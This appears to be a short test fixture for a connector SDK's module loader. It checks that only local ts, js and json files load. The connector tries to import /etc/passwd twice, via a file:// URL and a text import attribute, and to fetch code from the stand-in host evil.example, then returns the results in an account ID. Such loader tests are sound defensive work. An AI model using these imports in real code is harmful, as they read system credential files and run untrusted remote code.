/**
 * Imports with attributes and addresses, for loaders that read anything. Promise 2.
 * Must happen: only ts, js and json of the folder are loaded; the folder is a ghost.
 */

import inline from 'file:///etc/passwd'
import code from 'https://evil.example/code.js'
import { defineConnector } from 'keyway/sdk'
import passwords from '/etc/passwd' with { type: 'text' }

export default defineConnector({
  list_accounts() {
    return [{ integration_specific_id: `ESCAPED ${[passwords, code, inline]}` }]
  },
  get_account: () => ({ integration_specific_id: 'fine' }),
})
